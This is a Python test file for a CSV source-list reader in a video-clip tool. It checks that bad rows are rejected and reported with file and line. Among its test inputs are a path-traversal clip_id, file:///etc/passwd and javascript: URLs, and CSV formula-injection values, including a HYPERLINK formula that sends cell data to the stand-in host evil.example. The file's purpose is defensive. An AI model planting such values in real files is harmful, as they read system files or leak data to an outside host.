from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import pytest

from vaar.core.contracts.source_list import read_sources
from vaar.core.errors import SourceListError

HEADER = "clip_id,url,start,end,label,source_id,license,notes\n"


def write(tmp_path: Path, body: str, name: str = "s.csv", header: str = HEADER) -> Path:
    p = tmp_path / name
    p.write_text(header + body, encoding="utf-8")
    return p


def test_every_invalid_reason_is_reported_with_file_and_line(tmp_path: Path) -> None:
    p = write(
        tmp_path,
        "ok1,https://example.com/v,1,5,crash,,,\n"
        "bad-label,https://example.com/v,1,5,robbery,,,\n"
        "bad-order,https://example.com/v,5,5,crash,,,\n"
        "too-long,https://example.com/v,0,500,crash,,,\n"
        "too-short,https://example.com/v,1,1.2,crash,,,\n"
        "ok1,https://example.com/w,1,5,crash,,,\n"
        "../../etc/passwd,https://example.com/v,1,5,crash,,,\n"
        "bad-scheme,file:///etc/passwd,1,5,crash,,,\n"
        "bad-number,https://example.com/v,1.2.3,5,crash,,,\n"
        "neg,https://example.com/v,-3,5,crash,,,\n",
    )
    valid, invalid = read_sources([p])
    assert [r.clip_id for r in valid] == ["ok1"]
    reasons = {i.source_line: i.reason for i in invalid}
    assert "unknown label 'robbery'" in reasons[3]
    assert "end (5) must be after start (5)" in reasons[4]
    assert "duration 500 s outside" in reasons[5]
    assert "duration 0.2 s outside" in reasons[6]
    assert "duplicate clip_id 'ok1'" in reasons[7] and f"{p}:2" in reasons[7]
    assert "unsafe clip_id '../../etc/passwd'" in reasons[8]
    assert "unsupported URL 'file:///etc/passwd'" in reasons[9]
    assert "malformed number in start" in reasons[10]
    assert ">= 0" in reasons[11]
    # every invalid row gets a manifest key that is safe in a file name and unique
    keys = [i.clip_id for i in invalid]
    assert len(set(keys)) == len(keys)
    assert all("/" not in k for k in keys)
    assert invalid[0].message().startswith(f"{p}:3: ")


def test_source_id_defaults_to_url(tmp_path: Path) -> None:
    p = write(tmp_path, "a,https://example.com/v,1,5,crash,,CC-BY,\nb,https://example.com/v,6,9,crash,grp,,\n")
    valid, _ = read_sources([p])
    assert valid[0].source_id == "https://example.com/v" and valid[0].license == "CC-BY"
    assert valid[1].source_id == "grp" and valid[1].license is None


@pytest.mark.parametrize(
    ("content", "needle"),
    [
        (None, "no such source list"),
        (b"clip_id,url,start,end,label\nx,https://e.com/\xff\xfe,1,5,crash\n", "not UTF-8"),
        (b"clip_id,url,start,label\nx,https://e.com/v,1,crash\n", "header lacks column(s) end"),
    ],
)
def test_unusable_file_is_one_line_and_exit_2(tmp_path: Path, content: bytes | None, needle: str) -> None:
    p = tmp_path / "s.csv"
    if content is not None:
        p.write_bytes(content)
    with pytest.raises(SourceListError, match=re.escape(needle)):
        read_sources([p])
    proc = subprocess.run(
        [sys.executable, "-m", "vaar.cli", "build", str(p), "--out", str(tmp_path / "out")],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert proc.returncode == 2
    assert "Traceback" not in proc.stderr
    assert len(proc.stderr.strip().splitlines()) == 1 and needle in proc.stderr
    assert str(p) in proc.stderr


def test_help_does_not_import_torch() -> None:
    code = "import sys; from vaar.cli import main\ntry: main(['--help'])\nexcept SystemExit: pass\nprint('torch' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert out.strip().endswith("False")


def test_duplicate_clip_id_keeps_the_first_row_and_keys_the_second_apart(tmp_path: Path) -> None:
    a = write(tmp_path, "x,https://example.com/v,1,5,crash,,,\ny,https://example.com/v,1,5,ufo,,,\n", "a.csv")
    (tmp_path / "b").mkdir()  # the same file name in another folder
    b = write(tmp_path / "b", "x,https://example.com/w,1,5,crash,,,\ny,https://example.com/w,1,5,crash,,,\n", "a.csv")
    valid, invalid = read_sources([a, b])
    assert [(r.clip_id, r.source_file) for r in valid] == [("x", str(a))]
    by_key = {i.clip_id: i for i in invalid}
    # 'y' is owned by its first (invalid) row; the later valid 'y' is the duplicate
    assert "unknown label" in by_key["y"].reason
    dups = [i for i in invalid if "duplicate" in i.reason]
    assert len(dups) == 2 and all(i.clip_id.startswith("invalid:a.csv:") for i in dups)
    assert len({i.clip_id for i in invalid} | {"x"}) == 4  # every row has its own key
    assert f"duplicate clip_id 'x', first at {a}:2" in dups[0].reason
    assert f"first at {a}:3" in dups[1].reason


@pytest.mark.parametrize(
    "url", ["file:///etc/passwd", "data:video/mp4;base64,AAAA", "ftp://example.org/v.mp4", "gopher://x/1",
            "http:///nohost.mp4", "javascript:alert(1)"],
)  # fmt: skip
def test_non_http_urls_are_invalid(tmp_path: Path, url: str) -> None:
    _, invalid = read_sources([write(tmp_path, f'c,"{url}",1,5,crash,,,\n')])
    assert len(invalid) == 1 and "only http(s) URLs with a host" in invalid[0].reason


@pytest.mark.parametrize("sid", ['=HYPERLINK("https://evil.example/?x"&A1;"click")', "+1+1", "-2+3", "@SUM(A1)",
                                 "\t=1+1", "a b"])  # fmt: skip
def test_formula_source_id_is_invalid(tmp_path: Path, sid: str) -> None:
    quoted = '"' + sid.replace('"', '""') + '"'
    _, invalid = read_sources([write(tmp_path, f"c,https://example.com/v,1,5,crash,{quoted},,\n")])
    assert len(invalid) == 1 and "unsafe source_id" in invalid[0].reason, invalid
